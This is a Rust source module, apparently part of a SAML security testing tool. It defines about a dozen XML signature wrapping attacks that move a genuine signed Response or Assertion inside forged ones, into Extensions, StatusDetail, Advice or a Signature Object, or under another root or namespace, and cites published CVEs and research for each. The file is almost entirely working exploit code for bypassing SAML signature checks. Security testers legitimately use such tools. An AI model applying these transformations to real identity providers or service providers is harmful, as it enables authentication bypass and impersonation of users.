//! Signature wrapping around a signed Response: the genuine message stays inside a forged one, its signature live.

use super::tools::{md, put_in_status_detail, rebind};
use super::{Attack, ORDINARY, WRAPPING, has_signed_assertion, has_signed_response, is_signed_plain};
use crate::recipe::RecipeError;
use crate::step::Step;
use crate::tree::Element;
use crate::workshop::Workshop;

/// A forged Response around a genuine one.
const AROUND: Attack =
    Attack { needs: "a signed Response that is not encrypted", applies: has_signed_response, ..WRAPPING };

/// The genuine Response, its Signature, and the forged Response around them, the last one still empty of both.
fn apart(workshop: &mut Workshop<'_>) -> Result<(Element, Element, Element), RecipeError> {
    let forged = workshop.forged_response()?;
    let mut genuine = workshop.response.clone();
    let signature = genuine.take("Signature").ok_or(RecipeError::Missing("Signature"))?;
    Ok((genuine, signature, forged))
}

pub(super) const XSW_RESPONSE_AROUND: Attack = Attack {
    id: "xsw_response_around",
    about: "A forged Response holds the genuine, signed one in its Extensions.",
    source: "XSW-10; CVE-2021-21238",
    steps: &[Step::Signed(xsw_response_around)],
    ..AROUND
};

fn xsw_response_around(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let mut forged = workshop.forged_response()?;
    let extensions = workshop.samlp("Extensions").holding(workshop.response.clone());
    forged.insert(forged.position("Status").unwrap_or(1), extensions);
    workshop.response = forged;
    Ok(())
}

pub(super) const XSW_RESPONSE_IN_OBJECT: Attack = Attack {
    id: "xsw_response_in_object",
    about: "A forged Response carries the genuine Signature, whose Object holds the Response it refers to.",
    source: "XSW-1; Somorovsky et al., On Breaking SAML, 2012",
    steps: &[Step::Signed(xsw_response_in_object)],
    ..AROUND
};

fn xsw_response_in_object(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, signature, mut forged) = apart(workshop)?;
    let signature = signature.holding(workshop.ds("Object").holding(genuine));
    forged.insert(crate::sign::usual_position(&forged), signature);
    workshop.response = forged;
    Ok(())
}

pub(super) const XSW_RESPONSE_DETACHED: Attack = Attack {
    id: "xsw_response_detached",
    about: "A forged Response carries the genuine Signature, and the Response it refers to stands before it.",
    source: "XSW-2",
    steps: &[Step::Signed(xsw_response_detached)],
    ..AROUND
};

fn xsw_response_detached(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, signature, mut forged) = apart(workshop)?;
    let place = crate::sign::usual_position(&forged);
    forged.insert(place, signature);
    forged.insert(place, genuine);
    workshop.response = forged;
    Ok(())
}

pub(super) const OTHER_ROOT: Attack = Attack {
    id: "other_root",
    about: "The whole genuine Response stands inside another root element.",
    source: "XSW-12; samael's ancestor fixture",
    needs: "a signed message that is not encrypted",
    applies: is_signed_plain,
    steps: &[Step::Signed(other_root)],
    ..ORDINARY
};

fn other_root(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let genuine = std::mem::replace(&mut workshop.response, Element::new("envelope"));
    workshop.response.push(genuine);
    Ok(())
}

pub(super) const ASSERTION_ALONE: Attack = Attack {
    id: "assertion_alone",
    about: "The genuine, signed Assertion is the whole document, without a Response around it.",
    source: "XSW-12; CVE-2020-7731",
    needs: "a signed Assertion that is not encrypted",
    applies: has_signed_assertion,
    steps: &[Step::Signed(assertion_alone)],
    ..ORDINARY
};

fn assertion_alone(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let mut assertion = workshop.take_assertion()?;
    let declared = workshop.response.attributes.iter().filter(|attribute| attribute.name.starts_with("xmlns"));
    for declaration in declared {
        // What its names mean was said by the Response so far.
        if assertion.get(&declaration.name).is_none() {
            assertion.set(&declaration.name, &declaration.value);
        }
    }
    workshop.response = assertion;
    Ok(())
}

pub(super) const XSW_RESPONSE_IN_STATUS_DETAIL: Attack = Attack {
    id: "xsw_response_in_status_detail",
    about: "A forged Response holds the genuine, signed one in its StatusDetail.",
    source: "XSW-10; SIG-10; CVE-2024-45409",
    steps: &[Step::Signed(xsw_response_in_status_detail)],
    ..AROUND
};

fn xsw_response_in_status_detail(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let forged = workshop.forged_response()?;
    let genuine = std::mem::replace(&mut workshop.response, forged);
    put_in_status_detail(workshop, genuine)
}

pub(super) const XSW_RESPONSE_IN_ADVICE: Attack = Attack {
    id: "xsw_response_in_advice",
    about: "A forged Assertion holds the genuine, signed Response in its Advice.",
    source: "XSW-10; node-saml's Advice fixtures",
    steps: &[Step::Signed(xsw_response_in_advice)],
    ..AROUND
};

fn xsw_response_in_advice(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let forged = workshop.forged_response()?;
    let genuine = std::mem::replace(&mut workshop.response, forged);
    let advice = super::tools::saml("Advice").holding(genuine);
    let assertion = workshop.assertion()?;
    let behind_conditions = assertion.position("Conditions").map_or(assertion.children.len(), |place| place + 1);
    assertion.insert(behind_conditions, advice);
    Ok(())
}

pub(super) const FORGED_IN_RESPONSE_OBJECT: Attack = Attack {
    id: "forged_in_response_object",
    about: "The signed Response keeps its signature, whose Object holds a forged Assertion: enveloped-signature leaves it out of the digest.",
    source: "C14-09; samael's object_attack fixture",
    steps: &[Step::Signed(forged_in_response_object)],
    ..AROUND
};

fn forged_in_response_object(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let object = workshop.ds("Object").holding(workshop.forged_assertion()?);
    workshop.response.child_mut("Signature").ok_or(RecipeError::Missing("Signature"))?.push(object);
    Ok(())
}

pub(super) const METADATA_AROUND: Attack = Attack {
    id: "metadata_around",
    about: "The whole genuine Response stands in the Extensions of an EntityDescriptor.",
    source: "XSW-12; java-saml wrapped_response_2",
    needs: "a signed message that is not encrypted",
    applies: is_signed_plain,
    steps: &[Step::Signed(metadata_around)],
    ..ORDINARY
};

fn metadata_around(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let descriptor = md("EntityDescriptor").with("entityID", workshop.recipe.idp.entity_id.as_str());
    let genuine = std::mem::replace(&mut workshop.response, descriptor);
    workshop.response.push(md("Extensions").holding(genuine));
    Ok(())
}

pub(super) const RESPONSE_IN_OTHER_NAMESPACE: Attack = Attack {
    id: "response_in_other_namespace",
    about: "The prefix of the root is bound to a namespace that is not SAML's; the Assertion inside is genuine.",
    source: "XSW-15; java-saml's saml:Response fixture",
    needs: "a signed Assertion that is not encrypted",
    applies: super::has_signed_assertion,
    steps: &[Step::Signed(response_in_other_namespace)],
    ..ORDINARY
};

fn response_in_other_namespace(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    rebind(&mut workshop.response, "urn:samlspec:no-protocol");
    Ok(())
}
